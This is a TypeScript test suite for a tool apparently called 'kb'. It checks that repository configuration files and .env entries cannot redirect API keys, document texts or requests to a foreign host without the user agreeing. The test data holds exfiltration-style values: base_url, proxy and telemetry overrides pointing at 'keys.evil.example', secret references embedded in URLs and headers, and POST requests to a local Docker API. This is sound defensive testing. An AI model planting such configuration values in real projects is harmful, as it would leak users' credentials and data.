import { chmodSync, readFileSync, realpathSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import { isAbsolute, join } from 'node:path';
import { pathToFileURL } from 'node:url';
import { stringify } from 'yaml';
import { beforeEach, describe, expect, it, vi } from 'vitest';
import { acceptAddresses, withoutAccepted } from '../../src/config/accepted-addresses.ts';
import { loadConfig, readConfig, readSetFlags } from '../../src/config/load.ts';
import { userFolder } from '../../src/core/user-folders.ts';
import { providers } from '../../src/drivers/providers/providers.ts';
import type { Environment } from '../../src/ports/engines.ts';
import { folder, write } from '../support/folder.ts';

const EVIL = 'https://keys.evil.example/v1';
const SECRET = 'sk-of-the-user';
const TEXTS = 'texts of documents and questions';
const DATA = join('data', 'kb', 'accepted-addresses.jsonl');
let dataHome: string;

beforeEach(() => {
  vi.stubEnv('LOCALAPPDATA', '');
  dataHome = folder();
  vi.stubEnv('XDG_DATA_HOME', join(dataHome, 'data'));
  return () => void vi.unstubAllEnvs();
});

/** What a cloned repository with this configuration and `.env` would take. */
function taken(config: object, { env = {}, dotenv = '' }: { env?: Environment; dotenv?: string } = {}): string[] {
  const cwd = folder({ 'kb.config.yaml': stringify(config), '.git/HEAD': '', ...(dotenv && { '.env': dotenv }) });
  const { disclosures } = readConfig({ cwd, environment: env });
  return disclosures.map(({ secret, address }) => `${secret} > ${address}`);
}

describe('a configuration that kb found', () => {
  it.each(Object.entries(providers))('sends the keys of %s to no address but its own, by options and by .env', (provider, row) => {
    const variable = row.key_variables[0];
    const env = { [variable]: SECRET };
    const sections: object[] = [
      ...('embedding' in row ? [{ embedding: { provider, model: 'm', options: { base_url: EVIL } } }] : []),
      ...('llm' in row ? [{ chat: { llm: { provider, model: 'm', options: { base_url: EVIL } } } }] : []),
      ...('rerank' in row ? [{ rerank: { provider, model: 'm', options: { base_url: EVIL } } }] : []),
    ];
    for (const config of sections) expect(taken(config, { env })).toEqual([`${variable} > ${EVIL}`]);
    expect(taken({}, { env, dotenv: `${row.base_url_variable}=${EVIL}\n` })).toEqual([`${variable} > ${EVIL}`]);
    expect(taken({}, { dotenv: `${variable}=${SECRET}\n${row.base_url_variable}=${EVIL}\n` })).toEqual([`${variable} > ${EVIL}`]);
    for (const config of sections) expect(taken(config, {})).toEqual([`${TEXTS} > ${EVIL}`]);
    expect(taken({}, { dotenv: `${row.base_url_variable}=${EVIL}\n` })).toEqual([`${TEXTS} > ${EVIL}`]);
    expect(taken(sections[0]!, { env: { [row.base_url_variable]: EVIL } })).toEqual([]); // the user named it
  });

  it('sends no key to an address for whatever provider the collection or a request names', () => {
    const env = { VOYAGE_API_KEY: SECRET };
    expect(taken({ embedding: { options: { base_url: EVIL } } }, { env })).toEqual([`VOYAGE_API_KEY > ${EVIL}`]);
    const grader = { rerank: { provider: 'llm', options: { base_url: EVIL } } };
    expect(taken(grader, { env: { ANTHROPIC_API_KEY: SECRET } })).toEqual([`ANTHROPIC_API_KEY > ${EVIL}`]);
  });

  it.each<[string, object]>([
    ['Qdrant', { storage: { vector_db: 'qdrant', url: EVIL } }],
    ['a node of Qdrant', { storage: { vector_db: 'qdrant', options: { urls: [EVIL] } } }],
    ['an embedder of whatever provider', { embedding: { options: { base_url: EVIL } } }],
    ['a bucket', { storage: { url: EVIL.replace('https', 's3') } }],
  ])('sends no texts to %s without a question', (_, config) => {
    expect(taken(config)).toEqual([`${TEXTS} > ${JSON.stringify(config).includes('s3:') ? EVIL.replace('https', 's3') : EVIL}`]);
  });

  it.each<[string, object, Environment, string]>([
    ['the key of Qdrant', { storage: { vector_db: 'qdrant', url: EVIL } }, { QDRANT_API_KEY: SECRET }, ''],
    ['the key of Qdrant by .env', { storage: { vector_db: 'qdrant' } }, { QDRANT_API_KEY: SECRET }, `KB_STORAGE_URL=${EVIL}\n`],
    ['the key of Qdrant by its nodes', { storage: { vector_db: 'qdrant', options: { urls: [EVIL] } } }, { QDRANT_API_KEY: SECRET }, ''],
    ['the key of Qdrant in requests', { server: { allowed_store_urls: [EVIL] } }, { QDRANT_API_KEY: SECRET }, ''],
    ['what a bucket gets', { storage: { url: 's3://b/kb', options: { endpoint: EVIL } } }, {}, ''],
    ['what a bucket gets, by another name', { storage: { url: 's3://b/kb', options: { AWS_ENDPOINT_URL: EVIL } } }, {}, ''],
    ['what a bucket gets, by its region', { storage: { url: 's3://b/kb', options: { region: 'x.evil.example/' } } }, {}, ''],
    ['what a bucket gets, by .env', { storage: { url: 's3://b/kb' } }, {}, `AWS_ENDPOINT_URL=${EVIL}\n`],
    ['what a bucket gets, by a proxy', { storage: { url: 'az://b/kb', options: { proxy_url: 'evil.example:80' } } }, {}, ''],
    ['requests, by a proxy', {}, {}, 'HTTPS_PROXY=http://evil.example:3128\n'],
    ['requests, by a proxy in lower case', {}, { HTTPS_PROXY: 'http://proxy.corp:1' }, 'https_proxy=evil.example:3128\n'],
    ['the key of a collector', {}, { OTEL_EXPORTER_OTLP_HEADERS: 'k=v' }, `OTEL_EXPORTER_OTLP_ENDPOINT=${EVIL}\n`],
    [
      'the key of a collector, by the address of traces',
      {},
      { OTEL_EXPORTER_OTLP_HEADERS: 'k=v', OTEL_EXPORTER_OTLP_ENDPOINT: 'https://otel.corp' },
      `OTEL_EXPORTER_OTLP_TRACES_ENDPOINT=${EVIL}\n`,
    ],
  ])('cannot take %s', (_, config, env, dotenv) => {
    expect(taken(config, { env, dotenv })).toEqual([expect.stringMatching(/evil\.example/)]);
  });

  it('cannot take a variable by a reference, wherever it is in the file', () => {
    const key = '${OPENAI_API_KEY}';
    const api = { url: EVIL };
    const configs: object[] = [
      { network: { sites: [{ origin: 'https://evil.example', headers: { Authorization: key } }] } },
      { network: { sites: [{ origin: 'https://evil.example', cookies: { session: key } }] } },
      { network: { sites: [{ origin: 'https://evil.example', basic_auth: `me:${key}` }] } },
      { ingestion: { api: { headers: { Authorization: key } } } },
      { ingestion: { api: { params: { a: { url: 'http://127.0.0.1', list: [key] } } } } },
      { ingestion: { api: { body: { text: key } } }, sources: { api: [api] } },
      { sources: { api: { ...api, headers: { Authorization: key } } } },
      { sources: { api: [{ ...api, params: { list: [key], url: key, origin: 'http://127.0.0.1' } }] } },
      { sources: { api: [{ ...api, body: { path: key, folder: key } }] } },
      { sources: { api: [`${EVIL}?k=${key}`, { url: `https://${key}.evil.example` }] } },
      { sources: { urls: [`${EVIL}?k=${key}`] } },
      { sources: { urls: { url: `${EVIL}/${key}`, mode: 'full' } } },
      { sources: { urls: [`http://127.0.0.1${key}`] } },
      { sources: { docs: [`${EVIL}/${key}.pdf`] } },
      { sources: { docs: [{ path: 'a.md', title: key }] } },
      { sources: { api: { ...api, body: `http://127.0.0.1/${key}` } } },
      { storage: { vector_db: 'qdrant', url: EVIL, options: { x: key } } },
      { storage: { vector_db: 'qdrant', url: 'http://127.0.0.1:6333', options: { urls: ['http://127.0.0.1:6333', `${EVIL}/${key}`] } } },
      { storage: { vector_db: 'qdrant', url: 'http://127.0.0.1:6333', options: { urls: [EVIL], x: `http://127.0.0.1/${key}` } } },
      { storage: { url: 's3://b/kb', options: { endpoint: `http://127.0.0.1/${key}` } } },
      { embedding: { provider: 'openai', options: { base_url: `${EVIL}/${key}` } } },
      { embedding: { provider: 'openai_compatible', model: 'm', options: { base_url: `http://127.0.0.1${key}` } } },
      { embedding: { provider: 'openai_compatible', model: 'm', options: { base_url: EVIL, user: key } } },
      { chat: { llm: { provider: 'ollama', options: { base_url: EVIL, metadata: { a: [key] } } } } },
      { rerank: { provider: 'openai_compatible', options: { base_url: EVIL, user: key } } },
    ];
    for (const config of configs) {
      const cwd = folder({ 'kb.config.yaml': stringify(config) });
      const loaded = readConfig({ cwd, environment: { OPENAI_API_KEY: SECRET } });
      expect([JSON.stringify(loaded.config).includes(SECRET), stringify(config)]).toEqual([true, stringify(config)]);
      expect([loaded.disclosures.some(({ secret }) => secret === 'OPENAI_API_KEY'), stringify(config)]).toEqual([true, stringify(config)]);
      const refusal = expect.objectContaining({ message: expect.not.stringContaining(SECRET) });
      expect(() => loadConfig({ cwd, environment: { OPENAI_API_KEY: SECRET } })).toThrow(refusal);
    }
  });

  it('says what an address is of which variables are a part, and asks again when these change', () => {
    const cwd = folder({
      'kb.config.yaml': "embedding: {provider: openai, options: {base_url: 'https://${PLACE}/v1?k=${OPENAI_API_KEY}'}}\n",
    });
    write(cwd, { '.env': 'PLACE=one.example\n' });
    const environment = { OPENAI_API_KEY: SECRET };
    const { place, disclosures } = readConfig({ cwd, environment });
    expect(disclosures.map(({ secret, label }) => [secret, label])).toContainEqual([
      'OPENAI_API_KEY',
      'https://one.example/v1?k=${OPENAI_API_KEY}',
    ]);
    acceptAddresses(place, disclosures);
    expect(readFileSync(join(dataHome, DATA), 'utf8')).not.toContain(SECRET);
    expect(loadConfig({ cwd, environment }).file).toBe(place.file);
    write(cwd, { '.env': 'PLACE=keys.evil.example\n' });
    expect(() => loadConfig({ cwd, environment })).toThrow('keys.evil.example');
  });

  it('sends no requests that may change something, not even to this machine', () => {
    const local = 'http://127.0.0.1:2375/containers/create';
    expect(taken({ sources: { api: [{ url: local, method: 'post' }, local] } })).toEqual([`a POST request > ${local}`]);
    expect(taken({ sources: { api: local }, ingestion: { api: { method: 'DELETE' } } })).toEqual([`a DELETE request > ${local}`]);
  });

  it('may send a key to its provider, to this machine, and where the user named the address', () => {
    const env = { OPENAI_API_KEY: SECRET, QDRANT_API_KEY: SECRET, A: 'x' };
    const withUrl = (base_url: string) => ({ chat: { llm: { provider: 'openai', model: 'm', options: { base_url } } } });
    for (const url of ['https://api.openai.com/v2', 'http://127.0.0.1:8080/v1', 'http://localhost/v1', 'http://[::1]:1/v1'])
      expect(taken(withUrl(url), { env })).toEqual([]);
    for (const url of [
      'https://api.openai.com.evil.example',
      'https://127.0.0.1.evil.example',
      'http://localhost.evil.example',
      'http://0.0.0.0',
    ])
      expect(taken(withUrl(url), { env })).toEqual([`OPENAI_API_KEY > ${url}`]);
    expect(taken(withUrl(EVIL), { env: { ...env, OPENAI_BASE_URL: EVIL } })).toEqual([]);
    expect(taken({}, { env, dotenv: 'HTTPS_PROXY=http://127.0.0.1:3128\nOPENAI_BASE_URL=http://127.0.0.1:1\n' })).toEqual([]);
    expect(taken({ storage: { vector_db: 'qdrant', url: EVIL } }, { env: { ...env, KB_STORAGE_URL: 'https://q.corp' } })).toEqual([]);
    expect(taken({ storage: { url: 's3://b/kb', options: { region: 'eu-west-1', endpoint: 'http://127.0.0.1:1' } } }, { env })).toEqual([]);
    expect(taken({ storage: { url: 's3://b/kb' } }, { env: { KB_STORAGE_URL: 's3://b/kb' } })).toEqual([]);
    expect(taken({ sources: { docs: ['${A}/manuals'], api: [{ url: 'http://127.0.0.1:1/', headers: { X: '${A}' } }] } }, { env })).toEqual(
      [],
    );
  });

  it('may send a key where a flag says so', () => {
    const cwd = folder({ 'kb.config.yaml': 'chat: {llm: {provider: openai, model: m}}\n' });
    const flags = readSetFlags([`chat.llm.options={base_url: ${EVIL}}`]);
    expect(readConfig({ cwd, environment: { OPENAI_API_KEY: SECRET }, flags }).disclosures).toEqual([]);
  });
});

describe('a store in another folder', () => {
  const storeIn = (url: string, environment: Environment = {}) =>
    readConfig({ cwd: folder({ 'kb.config.yaml': stringify({ storage: { url } }) }), environment }).disclosures;

  it('gets texts only after a question, also by a link', () => {
    const elsewhere = realpathSync(folder());
    const expected = [expect.objectContaining({ secret: TEXTS, address: join(elsewhere, 'kb'), setting: 'storage.url' })];
    expect(storeIn(join(elsewhere, 'kb'))).toEqual(expected);
    expect(storeIn(pathToFileURL(join(elsewhere, 'kb')).href)).toEqual(expected);
    for (const link of ['.kb', '.kb/lancedb', 'base']) {
      const cwd = folder({ 'kb.config.yaml': link === 'base' ? 'storage: {url: base/kb}\n' : '', '.kb/x': '' });
      if (link === '.kb') rmSync(join(cwd, '.kb'), { recursive: true });
      symlinkSync(elsewhere, join(cwd, link), 'junction');
      const target = { '.kb': 'lancedb', '.kb/lancedb': '.', base: 'kb' }[link]!;
      expect(readConfig({ cwd, environment: {} }).disclosures, link).toMatchObject([{ secret: TEXTS, address: join(elsewhere, target) }]);
    }
    const shipped = folder({ 'kb.config.yaml': '', '.kb/lancedb/default.lance/_versions/1': '' });
    symlinkSync(elsewhere, join(shipped, '.kb/lancedb/default.lance/data'), 'junction');
    expect(readConfig({ cwd: shipped, environment: {} }).disclosures).toMatchObject([{ secret: TEXTS, address: elsewhere }]);
    const remote = folder({ 'kb.config.yaml': 'storage: {vector_db: qdrant}\n' }); // whose jobs lie in `.kb`
    symlinkSync(elsewhere, join(remote, '.kb'), 'junction');
    expect(readConfig({ cwd: remote, environment: {} }).disclosures).toMatchObject([{ secret: TEXTS, address: elsewhere }]);
  });

  it('shows no variable of its path', () => {
    const [disclosure] = storeIn(join(folder(), '${OPENAI_API_KEY}'), { OPENAI_API_KEY: SECRET });
    expect(disclosure!.label).toContain('${OPENAI_API_KEY}');
  });

  it('is not asked about in the folder of the configuration, nor where the user named it', () => {
    const elsewhere = folder();
    for (const url of ['.kb/lancedb', './base', 'a/../b', 'memory://x']) expect(storeIn(url), url).toEqual([]);
    expect(storeIn(elsewhere, { KB_STORAGE_URL: elsewhere })).toEqual([]);
    const cwd = folder({ 'kb.config.yaml': stringify({ storage: { url: elsewhere } }) });
    expect(readConfig({ cwd, file: 'kb.config.yaml', environment: {} }).disclosures).toEqual([]);
    expect(readConfig({ cwd, environment: {}, flags: readSetFlags([`storage.url=${elsewhere}`]) }).disclosures).toEqual([]);
  });
});

describe('a configuration that the user named', () => {
  it('sends keys where it says', () => {
    const cwd = folder({ 'a.yaml': `embedding: {provider: openai, options: {base_url: ${EVIL}}}\n` });
    for (const [file, environment] of [
      ['a.yaml', {}],
      [undefined, { KB_CONFIG: 'a.yaml' }],
    ] as const)
      expect(loadConfig({ cwd, file, environment: { ...environment, OPENAI_API_KEY: SECRET } }).config.embedding.provider).toBe('openai');
  });
});

describe('the answer of the user', () => {
  const environment = { OPENAI_API_KEY: SECRET, COHERE_API_KEY: SECRET };
  const settings = (provider: string, url: string) => `embedding: {provider: ${provider}, options: {base_url: ${url}}}\n`;

  it('holds for one file, one key and one address', () => {
    const cwd = folder({ 'kb.config.yaml': settings('openai', EVIL), 'b/kb.config.yaml': settings('openai', EVIL) });
    const { place, disclosures } = readConfig({ cwd, environment });
    expect(() => loadConfig({ cwd, environment })).toThrow(`kb found by itself, would have it send OPENAI_API_KEY to ${EVIL}`);
    acceptAddresses(place, disclosures);
    expect(loadConfig({ cwd, environment }).config.embedding.provider).toBe('openai');
    expect(() => loadConfig({ cwd: join(cwd, 'b'), environment })).toThrow('OPENAI_API_KEY');
    for (const changed of [settings('openai', `${EVIL}/other`), settings('cohere', EVIL)]) {
      write(cwd, { 'kb.config.yaml': changed });
      expect(() => loadConfig({ cwd, environment })).toThrow('_API_KEY to');
    }
  });

  it('is kept where only the user can write, and holds no key', () => {
    const cwd = folder({ 'kb.config.yaml': settings('openai', EVIL) });
    const { place, disclosures } = readConfig({ cwd, environment });
    acceptAddresses(place, disclosures);
    expect(withoutAccepted(place, disclosures)).toEqual([]);
    const file = join(dataHome, DATA);
    expect(readFileSync(file, 'utf8')).not.toContain(SECRET);
    chmodSync(file, 0o666);
    expect(withoutAccepted(place, disclosures)).toEqual(process.platform === 'win32' ? [] : disclosures);
    chmodSync(file, 0o600);
    writeFileSync(file, `{"id":"half\n${readFileSync(file, 'utf8')}`);
    expect(withoutAccepted(place, disclosures)).toEqual([]);
  });

  it('is not read from a folder that the repository can choose', () => {
    expect(userFolder('data')).toBe(join(dataHome, 'data', 'kb'));
    vi.stubEnv('XDG_DATA_HOME', 'data'); // relative: it would be in the working directory
    expect(isAbsolute(userFolder('data'))).toBe(true);
    expect(userFolder('data').startsWith(process.cwd())).toBe(false);
    expect(readConfig({ cwd: folder({ '.env': 'XDG_DATA_HOME=/tmp\n' }), environment: {} }).environment).toEqual({});
  });
});

describe('a reference to a variable', () => {
  const env = { TICKET_KEY: SECRET };

  it.each([
    'https:/keys.evil.example/?k=${TICKET_KEY}',
    'https:keys.evil.example/?k=${TICKET_KEY}',
    'https:\\\\keys.evil.example\\?k=${TICKET_KEY}',
  ])('is followed to an address however it is written: %s', (address) => {
    for (const sources of [{ urls: [address] }, { api: [address] }, { docs: [address] }])
      expect(taken({ sources }, { env })).toEqual(['TICKET_KEY > https://keys.evil.example']);
  });

  it('is followed to the address of the reranker that sends the options of the language model', () => {
    const llm = { provider: 'openai_compatible', model: 'm', options: { base_url: 'http://127.0.0.1:1/v1', user: '${TICKET_KEY}' } };
    const config = { chat: { llm }, rerank: { enabled: true, provider: 'llm', options: { base_url: EVIL } } };
    expect(taken(config, { env })).toEqual([`${TEXTS} > ${EVIL}`, `TICKET_KEY > ${new URL(EVIL).origin}`]);
  });

  it('is asked about again if another address is set for the provider', () => {
    const config = { chat: { llm: { provider: 'openai_compatible', model: 'm', options: { user: '${TICKET_KEY}' } } } };
    const places = ['https://first.example', 'https://keys.evil.example'];
    for (const place of places)
      expect(taken(config, { env, dotenv: `OPENAI_COMPATIBLE_BASE_URL=${place}/v1\n` })).toContain(`TICKET_KEY > ${place}`);
  });
});
